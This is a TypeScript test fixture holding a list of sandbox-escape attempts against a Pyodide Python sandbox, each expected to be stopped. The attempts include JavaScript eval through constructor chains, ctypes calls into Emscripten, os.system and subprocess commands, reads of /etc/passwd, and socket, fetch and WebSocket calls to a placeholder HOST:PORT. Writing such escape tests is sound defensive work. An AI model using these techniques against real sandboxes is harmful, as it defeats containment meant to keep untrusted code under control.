/**
 * Programs that want out: to JavaScript, the network, the page's storage, the
 * machine. Each returns the right answer if it got through, so that success is seen
 * as a pass; and it knocks at HOST:PORT or writes to FOLDER, which are watched.
 */
import { f, type Attack } from './attack.ts';

const escaped = 'return sum(range(n))';
const open =
  "import sys, gc\nsys.meta_path[:] = [m for m in sys.meta_path if getattr(m, '__name__', '') != 'Closed']\ngc.unfreeze()\n";
/** Finds a function of the bridge among all objects, where removed modules left it. */
const reach = `${open}def reach(name):\n    for o in gc.get_objects():\n        if type(o).__name__ == 'builtin_function_or_method' and o.__name__ == name:\n            return o\n`;
const anyway = { steps: 3_000_000 };
const stopped = ['exception', 'tamper', 'memory', 'exit'] as const;
const url = 'http://HOST:PORT/';

const imports = (name: string, statement: string): Attack => ({
  name,
  code: `${statement}\n${f(escaped)}`,
  verdict: 'exception',
});
/** Runs JavaScript in each way that is known, and is through if any worked. */
const script = (name: string, js: string): Attack => ({
  name,
  code: `${reach}${f('a = reach("to_js")([1])', `a.constructor.constructor(${JSON.stringify(js)})()`, escaped)}`,
  verdict: stopped,
  limits: anyway,
});

export const escape: readonly Attack[] = [
  imports('import js', 'import js'),
  imports('import pyodide_js', 'import pyodide_js'),
  imports('pyodide.code.run_js', 'from pyodide.code import run_js\nrun_js("1")'),
  imports('pyodide.ffi', 'from pyodide.ffi import to_js, create_proxy'),
  imports('_pyodide_core', 'import _pyodide_core'),
  imports('pyodide.http', 'from pyodide.http import open_url, pyfetch'),
  imports('micropip', 'import micropip'),
  imports('ctypes', 'import ctypes'),
  imports('socket', 'import socket'),
  imports('ssl', 'import ssl'),
  imports('webbrowser', 'import webbrowser'),
  {
    name: 'import js after the finder that refuses is gone',
    code: `${open}${f('import js', 'js.eval("1")', escaped)}`,
    verdict: stopped,
  },
  {
    name: 'pyodide_js by importlib',
    code: `${open}${f('import importlib', "importlib.import_module('pyodide_js').runPython", escaped)}`,
    verdict: stopped,
  },
  {
    name: 'run_js after the finder is gone',
    code: `${open}${f('from pyodide.code import run_js', 'run_js("1")', escaped)}`,
    verdict: stopped,
  },
  script('constructor.constructor through to_js', 'return 1'),
  script('fetch through to_js', `fetch("${url}")`),
  script('a nested worker', 'new Worker("data:text/javascript,1")'),
  script('dynamic import', `return import("${url}x.js")`),
  script(
    'a forged message with a guessed comlink id',
    'postMessage({ id: "1-2-3-4", type: "RAW", value: { nonce: 1, state: "clean", heap: 0 } })',
  ),
  script('flooding with messages', 'for (let i = 0; i < 1e5; i++) postMessage(i)'),
  script('IndexedDB', 'indexedDB.open("x")'),
  script('OPFS', 'navigator.storage.getDirectory()'),
  script('Cache', 'caches.open("x")'),
  script('BroadcastChannel', 'new BroadcastChannel("x").postMessage(1)'),
  script('WebSocket', 'new WebSocket("ws://HOST:PORT/")'),
  script('XMLHttpRequest', `const x = new XMLHttpRequest(); x.open("GET", "${url}", false); x.send()`),
  script('importScripts', `importScripts("${url}x.js")`),
  script('Node’s process', 'process.mainModule.require("fs").writeFileSync("FOLDER/js", "1")'),
  {
    name: 'eval through a prototype',
    code: `${reach}${f('a = reach("to_js")([1])', 'g = a.constructor.constructor.constructor', 'g("return 1")()', escaped)}`,
    verdict: stopped,
    limits: anyway,
  },
  {
    name: 'an async function’s constructor',
    code: `${reach}${f('a = reach("to_js")([1])', 'a.constructor.fromAsync.constructor("return 1")()', escaped)}`,
    verdict: stopped,
    limits: anyway,
  },
  {
    name: 'create_proxy',
    code: `${reach}${f('p = reach("create_proxy")(lambda: 1)', 'p.constructor.constructor("return 1")()', escaped)}`,
    verdict: stopped,
    limits: anyway,
  },
  {
    name: 'JsException',
    code: `${reach}${f('a = reach("to_js")([1])', 'try:', '    a.at(1, 2, 3).nothing', '    a.constructor(-1)', 'except Exception as e:', '    e.js_error.constructor.constructor("return 1")()', '    ' + escaped)}`,
    verdict: [...stopped, 'wrong'],
    limits: anyway,
  },
  {
    name: 'a call stack’s functions',
    code: `${reach}${f('a = reach("to_js")([1])', 'E = a.constructor.constructor.prototype.constructor', 'E("return 1")()', escaped)}`,
    verdict: stopped,
    limits: anyway,
  },
  {
    name: 'ctypes and emscripten_run_script_int',
    code: `${open}${f('import ctypes', 'ctypes.CDLL(None).emscripten_run_script_int(b"1")', escaped)}`,
    verdict: stopped,
  },
  {
    name: '_ctypes by its initialiser',
    code: `${open}${f('import _imp, importlib.machinery as m', "c = _imp.create_builtin(m.ModuleSpec('_ctypes', None))", 'h = c.dlopen(None, 0)', "s = c.dlsym(h, 'emscripten_run_script')", 'c.call_function(s, (b"1",))', escaped)}`,
    verdict: stopped,
  },
  {
    name: 'memory written through ctypes',
    code: `${open}${f('import ctypes', 'ctypes.memset(0, 255, 1 << 26)', escaped)}`,
    verdict: stopped,
  },
  {
    name: 'os.system',
    code: `import os\n${f('r = os.system("touch FOLDER/system")', 'if r != 0: raise OSError(r)', escaped)}`,
    verdict: 'exception',
  },
  {
    name: 'os.popen',
    code: `import os\n${f('r = os.popen("touch FOLDER/popen; echo 1").read()', 'if not r: raise OSError', escaped)}`,
    verdict: 'exception',
  },
  {
    name: 'subprocess',
    code: `import subprocess\n${f('subprocess.run(["touch", "FOLDER/subprocess"], check=True)', escaped)}`,
    verdict: 'exception',
  },
  {
    name: 'os.fork and exec',
    code: `import os\n${f('os.execv("/bin/touch", ["touch", "FOLDER/exec"])', escaped)}`,
    verdict: 'exception',
  },
  {
    name: 'a file of the machine read',
    code: f('t = open("/etc/passwd").read()', escaped),
    verdict: 'exception',
  },
  {
    name: 'a file of the machine written',
    code: f('open("FOLDER/open", "w").write("1")', escaped),
    verdict: 'exception',
  },
  {
    name: 'the parent’s environment',
    code: `import os\n${f("if 'PATH' not in os.environ or 'node' not in str(os.environ): raise KeyError", escaped)}`,
    verdict: 'exception',
  },
  {
    name: 'urllib',
    code: `import urllib.request\n${f(`urllib.request.urlopen("${url}", timeout=1)`, escaped)}`,
    verdict: 'exception',
  },
  {
    name: 'http.client',
    code: `import http.client\n${f('c = http.client.HTTPConnection("HOST", PORT, timeout=1)', 'c.request("GET", "/")', 'c.getresponse()', escaped)}`,
    verdict: 'exception',
  },
  {
    name: 'a socket after the finder is gone',
    code: `${open}${f('import socket', 's = socket.create_connection(("HOST", PORT), 1)', 's.sendall(b"x")', 's.recv(1)', escaped)}`,
    verdict: stopped,
  },
  {
    name: '_socket by its initialiser',
    code: `${open}${f('import _imp, importlib.machinery as m', "c = _imp.create_builtin(m.ModuleSpec('_socket', None))", '_imp.exec_builtin(c)', 's = c.socket(2, 1)', 's.connect(("HOST", PORT))', 's.send(b"x")', 's.recv(1)', escaped)}`,
    verdict: stopped,
  },
  {
    name: 'asyncio’s connection',
    code: `import asyncio\n${f('async def go():', '    r, w = await asyncio.open_connection("HOST", PORT)', '    w.write(b"x")', 'asyncio.run(go())', escaped)}`,
    verdict: ['exception', 'wrong', 'tamper'],
  },
  {
    name: 'the interrupt buffer',
    code: `${open}${f('import pyodide_js', 'pyodide_js.setInterruptBuffer(pyodide_js._module.HEAP8)', escaped)}`,
    verdict: stopped,
  },
  {
    name: 'loadPackage',
    code: `${open}${f('import pyodide_js', `pyodide_js.loadPackage("${url}x.whl")`, escaped)}`,
    verdict: stopped,
  },
  {
    name: 'a mount of Node’s file system',
    code: `${reach}${f('for o in gc.get_objects():', "    if type(o).__name__ == 'JsProxy' and hasattr(o, 'FS'):", "        o.FS.mount(o.FS.filesystems.NODEFS, {'root': '/'}, '/mnt')", '        open("/mnt/FOLDER/mount", "w").write("1")', '        ' + escaped, 'raise LookupError')}`,
    verdict: stopped,
    limits: anyway,
  },
];
